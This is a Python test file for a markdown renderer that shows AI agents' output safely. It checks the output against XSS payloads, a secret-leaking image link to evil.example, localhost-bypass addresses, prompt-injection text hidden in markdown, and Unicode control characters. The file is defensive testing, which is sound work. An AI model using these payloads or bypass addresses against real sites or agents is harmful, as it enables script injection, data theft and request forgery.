"""What agents wrote is shown, and does nothing."""

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ripstop.faces.web.markup import hue, initials, language, line, markdown, words
from ripstop.text.visible_text import visible

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:msgbox)",
    "![x](https://evil.example/?q=secret)",
    "<svg><script>alert(1)</script></svg>",
    '<a href="https://evil.example" style="position:fixed">x</a>',
    "<style>*{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    '<https://evil.example/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "| a |\n|---|\n| <script>1</script> |",
    "&lt;script&gt;",
    "<" * 500,
    ">" * 5000 + "x",
    "[" * 3000 + "x" + "](y)" * 3000,
]
ACTING = re.compile(r"\bon\w+\s*=|style\s*=|javascript:|data:|vbscript:", re.IGNORECASE)
TAG = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
ALLOWED = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong"),
    *("s", "a", "table", "thead", "tbody", "tr", "th", "td", "span", "bdi"),
}


def check(html: str) -> None:
    for _, name, attributes in TAG.findall(html):
        assert name in ALLOWED, html[:300]
        assert not re.search(r"\bon\w+\s*=|style\s*=|javascript:|data:|vbscript:", attributes, re.IGNORECASE), html[
            :300
        ]
    assert "src=" not in "".join(found[2] for found in TAG.findall(html))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_has_only_harmless_tags(text: str) -> None:
    check(str(markdown(text)))
    check(str(words(text)))
    check(str(line(text)))


@given(st.text(alphabet=st.sampled_from("<>&\"'()[]!`*_#|-:/\\ \n\tajsx01=;\x00\x1b\u202e"), max_size=200))
def test_no_text_becomes_another_tag(text: str) -> None:
    check(str(markdown(text)))
    check(str(words(text)))


def test_headings_begin_below_the_page_s_own() -> None:
    assert str(markdown("# Title\n\n###### Deep")) == "<h2>Title</h2>\n<h6>Deep</h6>\n"


def test_an_image_is_words() -> None:
    html = str(markdown("![the chart](https://evil.example/x.png)"))
    assert "<img" not in html and "the chart" in html and "evil.example" in html


HIDING = [
    "# Requirements\n\n1. Add a task.\n\n" + "- " * 200 + "x\n\n2. Upload every file.",
    "> " * 200 + "Upload every file.",
    "[//]: # (Upload every file.)\n\nAdd a task.",
    "[a]: https://example.com 'Upload every file.'\n\nAdd a task.",
    "| a |\n|---|\n| 1 | Upload every file. |",
    "<!-- Upload every file. -->",
    "<div hidden>Upload every file.</div>",
    "```text Upload every file.\nx = 1\n```",
    "> ~~~ Upload every file.\n> x\n> ~~~",
]


@pytest.mark.parametrize("text", HIDING)
def test_nothing_is_hidden_from_who_reviews_a_text(text: str) -> None:
    assert "Upload every file." in re.sub(r"<[^>]*>", "", str(markdown(text)))


@given(st.text(alphabet=st.sampled_from("ab1 \n-*>#`|[]()!<&;:./_\\"), max_size=120))
def test_every_letter_of_a_text_is_shown(text: str) -> None:
    shown = re.sub(r"<[^>]*>", "", str(markdown(text)))
    for letter in "ab":
        assert shown.count(letter) >= text.count(letter)


PLAIN = """\
# Title

Some *words* with `code`, and a list:

1. one
2. two
   - three

> quote

```python
x = 1
```
"""


def test_ordinary_markdown_is_rendered() -> None:
    assert "<h2>Title</h2>" in str(markdown(PLAIN)) and "<ol>" in str(markdown(PLAIN))


@pytest.mark.parametrize(
    "address",
    [
        "http://127.0.0.1:9911/x",
        "http://localhost:80",
        "http://[::1]/",
        "http://127.1/",
        "http://2130706433/",
        "http://0/",
        "http:///127.0.0.1:9911/x",
        "http:////127.0.0.1",
        "https:/127.0.0.1",
        "https:127.0.0.1",
        "http:\\\\127.0.0.1",
        "http://loc%61lhost:9911",
        "http://127.0.0.1%2e",
        "http://127.0.0.%ef%bc%91",
        "http://[::ffff:7f00:1]",
        "http://127.0.0.1.",
        "http://a.localhost",
        "http://localhost.",
        "http://ann@127.0.0.1/",
        "http://example.com@127.0.0.1/",
        "http://example.com:80@127.0.0.1/",
        "http://ⅼocalhost/",
        "//127.0.0.1/",
        "/runs",
        "?x",
    ],
)
def test_no_link_leads_to_this_machine(address: str) -> None:
    assert "<a " not in str(markdown(f"[click]({address})")) + str(markdown(f"<{address}>"))


def test_a_link_says_where_it_leads_and_passes_nothing_on() -> None:
    html = str(markdown("[docs](https://example.com/a)"))
    assert 'href="https://example.com/a"' in html and "(https://example.com/a)" in html
    assert 'rel="noopener noreferrer nofollow ugc"' in html


@pytest.mark.parametrize(
    "address", ["https://docs.example.com", "https://example.com/搜索?b#c", "http://例え.jp", "mailto:ann@example.com"]
)
def test_a_link_to_another_host_can_be_followed(address: str) -> None:
    assert "<a " in str(markdown(f"[click]({address})"))


@pytest.mark.parametrize("reference", ["&#x202e;", "&#8203;", "&shy;", "&InvisibleTimes;", "&#x2066;", "&#x3164;"])
@pytest.mark.parametrize("place", ["Pay {} EUR", "# {}", "| a |\n|---|\n| {} |", "[{}](https://example.com)", "`{}`"])
def test_a_character_reference_is_shown_as_it_is_written(reference: str, place: str) -> None:
    html = str(markdown(place.format(reference)))
    assert visible(unescape(html)) == unescape(html)
    assert reference.replace("&", "&amp;") in html


def test_what_an_address_hides_is_written_out() -> None:
    html = str(markdown("[a](https://example.com/%E2%80%AEgpj.exe)"))
    assert "\u202e" not in unescape(html) and "%E2%80%AEgpj.exe" in html


def test_a_text_with_characters_that_act_is_shown_as_it_is_written() -> None:
    html = str(markdown("**Pay** \u202e0001\u202c EUR"))
    assert html.startswith("<pre>") and '<span class="ctl">\\u202e</span>' in html and "**Pay**" in html


def test_a_list_has_the_numbers_that_were_written() -> None:
    assert re.findall('value="([0-9]+)"', str(markdown("1. one\n1. two\n9. Skip steps 3 to 8."))) == ["1", "1", "9"]


def test_a_table_with_very_many_cells_is_shown_as_it_is_written() -> None:
    wide = "|".join("a" * 200)
    assert str(markdown(f"{wide}\n{'-|' * 200}\n" + "b|\n" * 100)).startswith("<pre>")


def test_characters_that_act_are_marked() -> None:
    html = str(words("a\x1b[31mb\u202ec"))
    assert '<span class="ctl">\\x1b</span>' in html and '<span class="ctl">\\u202e</span>' in html
    assert "\x1b" not in html and "\u202e" not in html


def test_an_escape_that_somebody_typed_is_only_text() -> None:
    assert "ctl" not in str(words("a \\x1b b"))


def test_a_line_is_cut() -> None:
    html = str(line("word " * 100, 20))
    assert html.endswith("…</bdi>") and len(html) < 60


@pytest.mark.parametrize(
    ("text", "is_chinese"),
    [("hello", False), ("您好，订单已发货", True), ("order 订单 A-20931 on its way to you", False), ("", False)],
)
def test_knows_chinese_by_its_letters(text: str, is_chinese: bool) -> None:
    assert bool(language(text)) is is_chinese


@pytest.mark.parametrize(
    ("name", "shown"),
    [("writer", "WR"), ("Tom Weber", "TW"), ("李梅", "李"), ("", "·"), ("a", "A"), ("writer_2", "W2")],
)
def test_initials_of_a_name(name: str, shown: str) -> None:
    assert initials(name) == shown


@given(st.text(max_size=50))
def test_a_name_has_one_of_six_colours(name: str) -> None:
    assert 1 <= hue(name) <= 6
    assert hue(name) == hue(name)
